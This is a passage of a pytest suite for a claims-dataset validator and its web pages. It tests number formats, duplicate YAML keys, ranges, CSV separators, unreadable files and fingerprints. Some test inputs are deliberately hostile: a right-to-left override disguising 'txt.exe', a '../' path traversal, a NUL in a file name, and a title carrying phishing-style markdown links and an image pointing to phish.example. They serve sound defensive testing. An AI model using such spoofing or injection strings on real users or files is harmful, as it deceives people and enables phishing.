    csv_set(real / "harm_figures.csv", "id", cnt["id"], "denominator", "1,234")  # variant: another column
    study = records(real / "studies.yaml")[0]
    yaml_set(real / "studies.yaml", study["id"], "year", "2,020")  # variant: a YAML table
    found = problems(real)
    one(found, "harm_figures.csv:", pct["id"], "value", "'31,8' has a comma", "decimal point")
    one(found, cnt["id"], "denominator", "'1,234' has a comma")
    one(found, "studies.yaml", study["id"], "year", "has a comma")
    ds = load_dataset(real)
    assert pct["id"] not in set(ds["harm_figures"]["id"]), "never shown as 318"


@pytest.mark.parametrize("bad", ["1_000", "0x1F", "1e", "nan", "inf", "12 %", "٣"])
def test_numbers_are_digits_with_a_point(real, bad):
    pct = figure_of(real, "percent")
    csv_set(real / "harm_figures.csv", "id", pct["id"], "value", bad)
    one(problems(real), pct["id"], "value", "expected a number")


# --- 9. duplicate keys in YAML --------------------------------------------------------------------------
def test_a_duplicate_key_is_a_problem_and_the_record_is_set_aside(real):
    claim = next(c for c in records(real / "claims.yaml") if c.get("verdict") and c["verdict"] != "supported")
    yaml_add(real / "claims.yaml", claim["id"], "  verdict: supported")
    text = (real / "dataset.yaml").read_text(encoding="utf-8")
    (real / "dataset.yaml").write_text(text + "title: Another title\n", encoding="utf-8")  # variant: a single-record file
    harm = records(real / "harms.yaml")[0]
    yaml_add(real / "harms.yaml", harm["id"], "  severity: mild\n  severity: serious")  # variant: twice in one record
    found = problems(real)
    one(found, "claims.yaml", claim["id"], "verdict", "appears twice")
    one(found, "dataset.yaml", "title", "appears twice")
    one(found, "harms.yaml", harm["id"], "severity", "appears twice")
    ds = load_dataset(real)
    assert claim["id"] not in set(ds["claims"]["id"]), "never shown as supported"


def test_a_duplicate_key_inside_a_nested_entry_is_caught(real):
    claim = next(c for c in records(real / "claims.yaml") if c.get("quotes"))
    text = (real / "claims.yaml").read_text(encoding="utf-8")
    head = re.search(rf"^- id: {claim['id']}\n(.*?\n)( *)- article: (\S+)\n", text, re.S | re.M)
    text = text[: head.end()] + head.group(2) + "  article: A9\n" + text[head.end() :]
    (real / "claims.yaml").write_text(text, encoding="utf-8")
    one(problems(real), "claims.yaml", claim["id"], "article", "appears twice")


# --- 10. YAML's implicit typing never rewrites text ---------------------------------------------------
def test_text_stays_text_exactly_as_written(real):
    arts = records(real / "articles.yaml")
    old = arts[0]["id"]
    n_claims = sum(1 for c in records(real / "claims.yaml") if any(q["article"] == old for q in c["quotes"]))
    for path in [real / "articles.yaml", real / "claims.yaml", real / "harms.yaml"]:
        path.write_text(re.sub(rf"\b(article|id): {old}\b", r"\1: NO", path.read_text(encoding="utf-8")), encoding="utf-8")
    harm = records(real / "harms.yaml")[1]
    yaml_set(real / "harms.yaml", harm["id"], "name", "off")  # variant: a text field
    yaml_set(real / "harms.yaml", harm["id"], "body_system", "0777")
    study = records(real / "studies.yaml")[0]
    yaml_set(real / "studies.yaml", study["id"], "venue", "1:30")
    yaml_set(real / "studies.yaml", study["id"], "pmid", "012345")
    assert problems(real) == []
    ds = load_dataset(real)
    assert "NO" in set(ds["articles"]["id"])
    assert sum("NO" in a for a in D.claims_table(ds)["articles"]) == n_claims, "no claim vanishes"
    h = ds["harms"].set_index("id").loc[harm["id"]]
    assert (h["name"], h["body_system"]) == ("off", "0777")
    s = ds["studies"].set_index("id").loc[study["id"]]
    assert (s["venue"], s["pmid"]) == ("1:30", "012345")


def test_a_value_of_the_wrong_type_is_a_problem(real):
    art = records(real / "articles.yaml")[0]["id"]
    yaml_set(real / "articles.yaml", art, "mentions_harms", "yes")  # YAML 1.1 would read true
    study = records(real / "studies.yaml")[0]["id"]
    yaml_set(real / "studies.yaml", study, "year", "!!float 2020.5")
    yaml_set(real / "studies.yaml", study, "venue", "!!int 12")
    found = problems(real)
    one(found, "articles.yaml", art, "mentions_harms", "expected true or false, found 'yes'")
    one(found, "studies.yaml", study, "year", "expected a whole number")
    one(found, "studies.yaml", study, "venue", "expected text, found a number")


# --- 11. ranges declared in the schema ---------------------------------------------------------------------
def test_values_outside_their_declared_range_are_problems(real):
    pct, cnt = figure_of(real, "percent"), figure_of(real, "count")
    csv_set(real / "harm_figures.csv", "id", pct["id"], "value", "150")
    csv_set(real / "harm_figures.csv", "id", cnt["id"], "value", "2.5")
    rows = csv_rows(real / "harm_figures.csv")
    third, fourth = rows[5]["id"], rows[6]["id"]
    csv_set(real / "harm_figures.csv", "id", third, "denominator", "0")
    csv_set(real / "harm_figures.csv", "id", fourth, "numerator", "20")
    csv_set(real / "harm_figures.csv", "id", fourth, "denominator", "10")
    studies = records(real / "studies.yaml")
    yaml_set(real / "studies.yaml", studies[0]["id"], "year", "3000")
    yaml_set(real / "studies.yaml", studies[1]["id"], "year", "-44")
    with_n = next(s for s in studies if s.get("n"))
    yaml_set(real / "studies.yaml", with_n["id"], "n", "-5")
    yaml_set(real / "studies.yaml", studies[2]["id"], "last_checked", "'2099-01-01'")
    leg = csv_rows(real / "legality.csv")[0]["id"]
    csv_set(real / "legality.csv", "id", leg, "last_checked", "2099-12-31")  # variant: another table
    found = problems(real)
    one(found, pct["id"], "value", "150", "above 100", "unit is percent")
    one(found, cnt["id"], "value", "not a whole number")
    one(found, third, "denominator", "below the smallest allowed value, 1")
    one(found, fourth, "numerator", "larger than denominator")
    one(found, studies[0]["id"], "year", "3000", "in the future")
    one(found, studies[1]["id"], "year", "-44", "below the smallest allowed value, 1800")
    one(found, with_n["id"], "n", "below the smallest allowed value, 1")
    one(found, studies[2]["id"], "last_checked", "in the future")
    one(found, "legality.csv", leg, "last_checked", "in the future")


def test_the_ranges_are_declared_in_the_schema_as_data():
    from claimcheck import schema as S

    assert S.table("studies").field("year").minimum == 1800 and S.table("studies").field("year").maximum == S.TODAY
    dated = [(t.name, f.name) for t in S.TABLES for f in t.fields if f.name == "last_checked"]
    assert all(S.table(t).field(f).maximum == S.TODAY for t, f in dated)
    assert any(r.field == "value" and r.when == ("unit", ("percent",)) and r.maximum == 100 for r in S.table("harm_figures").rules)


# --- 12. an emptied file is not a valid empty table -----------------------------------------------------
def test_an_emptied_required_table_is_a_problem(real):
    (real / "claims.yaml").write_bytes(b"")
    header = (real / "claim_studies.csv").read_text(encoding="utf-8").splitlines()[0]
    (real / "claim_studies.csv").write_text(header + "\n", encoding="utf-8")
    (real / "dataset.yaml").write_text("# nothing here\n# at all\n", encoding="utf-8")
    (real / "topics.csv").write_bytes(b"")
    found = problems(real)
    for name in ("claims.yaml", "claim_studies.csv", "dataset.yaml", "topics.csv"):
        one(found, name, "may not be empty")


def test_a_table_the_schema_lets_be_empty_may_be_empty(real):
    header = (real / "glossary.csv").read_text(encoding="utf-8").splitlines()[0]
    (real / "glossary.csv").write_text(header + "\n", encoding="utf-8")
    (real / "timeline.csv").write_bytes(b"")
    assert problems(real) == []


def test_an_emptied_table_shows_a_banner(real, monkeypatch):
    (real / "claims.yaml").write_bytes(b"")
    at = run_page(real, monkeypatch, None)
    assert "These tables could not be read at all: claims" in banner(at)


# --- 13. records that depend on a record set aside ---------------------------------------------------------
def test_links_to_a_study_set_aside_are_set_aside_and_counted(real, monkeypatch):
    links = csv_rows(real / "claim_studies.csv")
    study = max({r["study_id"] for r in links}, key=lambda s: sum(r["study_id"] == s for r in links))
    n_links = sum(r["study_id"] == study for r in links)
    yaml_set(real / "studies.yaml", study, "year", "3000")
    ds = load_dataset(real)
    assert ds.set_aside["studies"] == (study,)
    assert len(ds.set_aside["claim_studies"]) == n_links
    assert study not in set(ds["claim_studies"]["study_id"]), "no link to a study that is not shown"
    at = run_page(real, monkeypatch, None)
    assert f"{1 + n_links} records were set aside and are not shown" in banner(at)


def test_everything_hanging_on_a_harm_set_aside_is_set_aside_and_counted(real, monkeypatch):
    claims = records(real / "claims.yaml")
    harm = next(h for h in records(real / "harms.yaml") if any(h["id"] in (c.get("harms") or []) for c in claims))
    yaml_set(real / "harms.yaml", harm["id"], "severity", "extreme")
    figures = [r for r in csv_rows(real / "harm_figures.csv") if r["harm_id"] == harm["id"]]
    claim_ids = {c["id"] for c in claims if harm["id"] in (c.get("harms") or [])}
    links = [r for r in csv_rows(real / "claim_studies.csv") if r["claim_id"] in claim_ids]
    expected = 1 + len(figures) + len(claim_ids) + len(links)
    ds = load_dataset(real)
    assert sum(len(v) for v in ds.set_aside.values()) == expected
    assert not claim_ids & set(ds["claims"]["id"])
    at = run_page(real, monkeypatch, "pages/4_Adverse_effects.py")
    assert f"{expected} records were set aside and are not shown" in banner(at)


def test_one_record_set_aside_is_counted_in_the_singular(real, monkeypatch):
    leg = csv_rows(real / "legality.csv")[-1]["id"]
    csv_set(real / "legality.csv", "id", leg, "status", "unknown-status")
    at = run_page(real, monkeypatch, "pages/5_Legality.py")
    assert "1 record was set aside and is not shown" in banner(at)


# --- 14. every dropped CSV row is counted; a wrong separator is named -----------------------------------
def append_line(path: Path, line: str) -> None:
    text = path.read_text(encoding="utf-8")
    path.write_text(text.rstrip("\n") + "\n" + line + "\n", encoding="utf-8")


def test_a_row_with_an_unquoted_comma_is_counted_as_set_aside(real, monkeypatch):
    row = csv_rows(real / "legality.csv")[0]
    cells = [row[k] for k in row]
    cells[0], cells[2] = "EXTRA-ROW", "France, Republic of"  # an unquoted comma: one cell too many
    append_line(real / "legality.csv", ",".join(c if "," not in c or i == 2 else f'"{c}"' for i, c in enumerate(cells)))
    fig = csv_rows(real / "harm_figures.csv")[0]
    append_line(real / "harm_figures.csv", "EXTRA-FIG," + ",".join(list(fig.values())[1:5]))  # variant: too few cells
    found = problems(real)
    one(found, "legality.csv", "EXTRA-ROW", "cells but the header has", "put the cell in double quotes")
    one(found, "harm_figures.csv", "EXTRA-FIG", "cells but the header has")
    ds = load_dataset(real)
    assert ds.set_aside == {"legality": ("EXTRA-ROW",), "harm_figures": ("EXTRA-FIG",)}
    at = run_page(real, monkeypatch, "pages/5_Legality.py")
    assert "2 records were set aside and are not shown" in banner(at)


@pytest.mark.parametrize(
    "file,sep,word", [("legality.csv", ";", "semicolons"), ("timeline.csv", "\t", "tabs"), ("topics.csv", ";", "semicolons")]
)
def test_a_file_saved_with_another_separator_is_named_with_a_hint(real, monkeypatch, file, sep, word):
    rows = list(csv.reader(io.StringIO((real / file).read_text(encoding="utf-8"), newline="")))
    out = io.StringIO()
    csv.writer(out, delimiter=sep, lineterminator="\n").writerows(rows)
    (real / file).write_text(out.getvalue(), encoding="utf-8")
    one(problems(real), file, f"separated by {word}", "save the file as comma-separated CSV")
    ds = load_dataset(real)
    table = file.removesuffix(".csv")
    assert len(ds.set_aside[table]) == len(rows) - 1, "every row of the file is counted"
    assert table in ds.unreadable
    if file == "legality.csv":
        at = run_page(real, monkeypatch, "pages/5_Legality.py")
        assert f"{len(rows) - 1} records were set aside" in banner(at) and "could not be read at all: legality" in banner(at)


def test_a_broken_quote_in_the_middle_loses_only_its_row(real):
    rows = csv_rows(real / "conditions.csv")
    text = (real / "conditions.csv").read_text(encoding="utf-8")
    lines = text.split("\n")
    lines[1] = lines[1].replace(",", ',"bad"x,', 1) if '"' not in lines[1] else 'broken,"bad"x,y'
    (real / "conditions.csv").write_text("\n".join(lines), encoding="utf-8")
    ds = load_dataset(real)
    assert len(ds["conditions"]) + len(ds.set_aside.get("conditions", ())) == len(rows)


# --- 15. quotes too short to prove anything; characters that hide or reorder text ------------------------------
def test_a_quote_of_a_letter_or_a_word_is_too_short(real):
    claim = next(c for c in records(real / "claims.yaml") if c.get("quotes"))
    text = (real / "claims.yaml").read_text(encoding="utf-8")
    head = re.search(rf"^- id: {claim['id']}\n.*?\n( *)text: .*?\n", text, re.S | re.M)
    text = text[: head.start(1)] + head.group(1) + "text: a\n" + text[head.end() :]
    (real / "claims.yaml").write_text(text, encoding="utf-8")
    art = next(a for a in records(real / "articles.yaml") if a.get("commercial_signals"))
    text = (real / "articles.yaml").read_text(encoding="utf-8")
    head = re.search(rf"^- id: {art['id']}\n.*?\n( *)quote: .*?\n", text, re.S | re.M)
    text = text[: head.start(1)] + head.group(1) + "quote: Kratom\n" + text[head.end() :]  # variant: a commercial signal
    (real / "articles.yaml").write_text(text, encoding="utf-8")
    found = problems(real)
    one(found, "claims.yaml", claim["id"], "quotes[1].text", "too short to check", "at least 15")
    one(found, "articles.yaml", art["id"], "commercial_signals[1].quote", "too short to check")


@pytest.mark.parametrize(
    "ch,name",
    [("\u202e", "U+202E"), ("\u200b", "U+200B"), ("\u2066", "U+2066"), ("\ufeff", "U+FEFF"), ("\x07", "U+0007"), ("\u00ad", "U+00AD")],
)
def test_invisible_and_reordering_characters_are_named(real, ch, name):
    harm = records(real / "harms.yaml")[0]["id"]
    yaml_set(real / "harms.yaml", harm, "name", yq(f"Nau{ch}sea"))
    leg = csv_rows(real / "legality.csv")[0]["id"]
    csv_set(real / "legality.csv", "id", leg, "note", f"A note{ch} with a hidden character")  # variant: a CSV text field
    found = problems(real)
    one(found, "harms.yaml", harm, "name", name)
    one(found, "legality.csv", leg, "note", name, "invisible or control character")


def test_a_bidi_override_in_an_article_text_is_a_problem(real):
    art = first_article(real)
    path = real / "articles" / art["file"]
    path.write_text(path.read_text(encoding="utf-8") + "\nsafe \u202etxt.exe\n", encoding="utf-8")
    one(problems(real), "articles.yaml", art["id"], "file", "U+202E", "RIGHT-TO-LEFT OVERRIDE")


# --- 16. impossible dates, and the checker's own failures ------------------------------------------------------
def test_an_unquoted_impossible_date_is_a_problem_not_a_crash(real):
    study = records(real / "studies.yaml")[0]["id"]
    yaml_set(real / "studies.yaml", study, "last_checked", "2026-13-45")
    text = (real / "dataset.yaml").read_text(encoding="utf-8")
    (real / "dataset.yaml").write_text(re.sub(r"(?m)^last_updated: .*$", "last_updated: 2026-02-30", text), encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "claimcheck", "validate", str(real)], cwd=ROOT, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    one(result.stdout.splitlines(), "studies.yaml", study, "last_checked", "'2026-13-45' is not a real calendar date")
    one(result.stdout.splitlines(), "dataset.yaml", "last_updated", "'2026-02-30' is not a real calendar date")


def test_an_internal_error_has_its_own_exit_code_and_no_traceback(real, monkeypatch, capsys):
    import claimcheck.__main__ as cli

    def broken(directory):
        raise RuntimeError("boom")

    monkeypatch.setattr(cli, "validate", broken)
    assert cli.main(["validate", str(real)]) == 3
    err = capsys.readouterr().err
    assert "internal error" in err and "boom" in err and "Traceback" not in err
    monkeypatch.setattr("claimcheck.dataset.validate", broken)
    ds = load_dataset(real)  # the pages get an empty dataset and a banner instead of a traceback
    assert "internal error" in ds.problems[0].message and all(df.empty for df in ds.tables.values())


def test_the_readme_documents_the_exit_codes():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert re.search(r"exits 0 .* 1 .* 2 .* 3", readme.replace("\n", " ")), "README lists every exit code of validate"


# --- 17. unreadable and odd files ------------------------------------------------------------------------------------
def deny(monkeypatch, name: str) -> None:
    """Make one file unreadable as chmod 000 would (root reads anything, so the refusal is simulated)."""
    real_open = os.open

    def guarded(path, flags, *args, **kwargs):
        if os.path.basename(os.fspath(path)) == name:
            raise PermissionError(13, "Permission denied", path)
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", guarded)


def test_a_table_that_cannot_be_read_says_permission_denied_not_missing(real, monkeypatch):
    deny(monkeypatch, "harms.yaml")
    found = problems(real)
    one(found, "harms.yaml", "cannot be read (permission denied)")
    assert not any(p.startswith("harms.yaml") and "missing" in p for p in found)


def test_an_article_that_cannot_be_read_says_permission_denied(real, monkeypatch):
    art = first_article(real)
    deny(monkeypatch, art["file"])  # variant: an article text
    one(problems(real), "articles.yaml", art["id"], "file", "permission denied")


def test_chmod_000_is_permission_denied(real, monkeypatch):
    os.chmod(real / "claims.yaml", 0)
    if os.geteuid() == 0:
        # Root (as in CI) reads files whatever their mode: the refusal every other user gets is simulated.
        deny(monkeypatch, "claims.yaml")
    one(problems(real), "claims.yaml", "permission denied")


def test_a_changelog_that_cannot_be_read_does_not_take_the_methods_page_down(real, monkeypatch):
    deny(monkeypatch, "CHANGELOG.md")
    at = run_page(real, monkeypatch, "pages/7_Methods_and_data.py")
    assert "CHANGELOG.md: cannot be read (permission denied)" in "\n".join(e.value for e in at.code)


def test_folders_and_odd_names_where_files_belong(real):
    (real / "claims.yaml").unlink()
    (real / "claims.yaml").mkdir()  # a table that is a folder
    arts = records(real / "articles.yaml")
    (real / "articles" / "sub").mkdir()
    yaml_set(real / "articles.yaml", arts[0]["id"], "file", "sub")  # an article file that is a folder
    yaml_set(real / "articles.yaml", arts[1]["id"], "file", '"a\\0b.txt"')  # a NUL in the name
    yaml_set(real / "articles.yaml", arts[2]["id"], "file", "../claims.yaml")
    found = problems(real)
    one(found, "claims.yaml", "is a folder, not a file")
    one(found, "articles.yaml", arts[0]["id"], "file", "is a folder, not a file")
    one(found, "articles.yaml", arts[1]["id"], "file", "U+0000")
    one(found, "articles.yaml", arts[2]["id"], "file", "plain names")


# --- 18. pages never crash on empty or broken data --------------------------------------------------------------------
def semicolon_topics(real: Path) -> Path:
    rows = list(csv.reader(io.StringIO((real / "topics.csv").read_text(encoding="utf-8"), newline="")))
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerows(rows)
    (real / "topics.csv").write_text(out.getvalue(), encoding="utf-8")
    return real


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("kind", ["empty folder", "no valid claim"])
def test_every_page_renders_on_empty_or_broken_data_with_a_banner(real, tmp_path, monkeypatch, page, kind):
    if kind == "empty folder":
        directory = tmp_path / "empty"
        directory.mkdir()
    else:
        directory = semicolon_topics(real)
    at = run_page(directory, monkeypatch, page, {"claim": "C001", "doc": "A1"})
    text = banner(at)
    assert "could not be read at all" in text
    if kind == "no valid claim":
        assert "topics" in text
    assert at.title or at.markdown, "the page still draws its content"


# --- 19. files that change while the folder is read -----------------------------------------------------------------
def vanish(monkeypatch, name: str, times: int) -> list[int]:
    """os.open raises FileNotFoundError for ``name`` the first ``times`` times, as if it were being saved."""
    real_open, count = os.open, [0]

    def flaky(path, flags, *args, **kwargs):
        if os.path.basename(os.fspath(path)) == name and count[0] < times:
            count[0] += 1
            raise FileNotFoundError(2, "No such file or directory", path)
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", flaky)
    return count


def test_a_file_replaced_while_it_is_read_is_read_again(real, monkeypatch):
    count = vanish(monkeypatch, "claims.yaml", 1)
    assert problems(real) == [] and count == [1]
    count = vanish(monkeypatch, "legality.csv", 1)  # variant: a CSV table
    assert problems(real) == [] and count == [1]


def test_a_file_that_stays_gone_is_reported_not_raised(real, monkeypatch):
    vanish(monkeypatch, "claims.yaml", 2)
    one(problems(real), "claims.yaml", "vanished while it was being read")
    art = first_article(real)
    vanish(monkeypatch, art["file"], 2)  # variant: an article text
    one(problems(real), "articles.yaml", art["id"], "vanished")


def test_scans_survive_files_appearing_and_vanishing(real):
    stop = threading.Event()

    def churn():
        i = 0
        while not stop.is_set():
            tmp = real / f".claims.yaml.{i}.tmp"
            tmp.write_bytes((real / "claims.yaml").read_bytes())
            os.replace(tmp, real / "claims.yaml")  # an atomic save, as editors and git do
            junk = real / "articles" / f"~lock.{i}"
            junk.write_text("x")
            junk.unlink()
            i += 1

    worker = threading.Thread(target=churn)
    worker.start()
    try:
        for _ in range(30):
            LOAD.fingerprint(real)
            assert validate(real).problems == []
    finally:
        stop.set()
        worker.join()


# --- 20. the fingerprint follows content, not size and time -----------------------------------------------------------
@pytest.mark.parametrize("rel", ["legality.csv", "articles/{article}"])
def test_an_edit_that_keeps_size_and_time_changes_the_fingerprint(real, rel):
    path = real / rel.format(article=first_article(real)["file"])
    before = LOAD.fingerprint(real)
    st = path.stat()
    data = bytearray(path.read_bytes())
    i = data.index(b"a")
    data[i : i + 1] = b"b"  # same size
    path.write_bytes(bytes(data))
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))  # same time, as cp -p or tar x leave it
    assert path.stat().st_size == st.st_size and path.stat().st_mtime_ns == st.st_mtime_ns
    assert LOAD.fingerprint(real) != before


def test_the_dataset_title_is_shown_as_text_not_markdown(real, monkeypatch):
    text = (real / "dataset.yaml").read_text(encoding="utf-8")
    title = "Claims [Win a prize](https://phish.example/t) ![x](https://phish.example/p.png)"
    (real / "dataset.yaml").write_text(re.sub(r"(?m)^title: .*$", lambda m: f"title: {yq(title)}", text), encoding="utf-8")
    assert problems(real) == []
    at = run_page(real, monkeypatch, None)
    shown = at.title[0].value
    assert not re.search(r"(?<!\\)[\[\]()!]", shown), shown
